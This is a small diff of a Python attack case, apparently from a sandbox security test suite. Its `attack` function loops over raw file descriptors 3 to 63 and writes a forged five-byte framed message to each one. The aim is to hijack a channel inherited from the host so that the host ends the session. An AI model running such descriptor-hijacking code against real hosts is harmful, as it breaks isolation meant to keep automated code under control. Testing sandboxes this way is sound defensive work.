@@ -3,12 +3,9 @@
 # source: own
 # open behind kernel: the socket is its own, and only the language's wall stands between; the host ends it for it
 import os
-import socket
 def attack(**_):
-    for number in range(3, 16):
+    for number in range(3, 64):
         try:
-            own = socket.socket(fileno=number)
+            os.write(number, b"\x00\x00\x00\x01\xc0")
         except OSError:
             continue
-        own.send(b"\x00\x00\x00\x01\xc0")
-        own.detach()
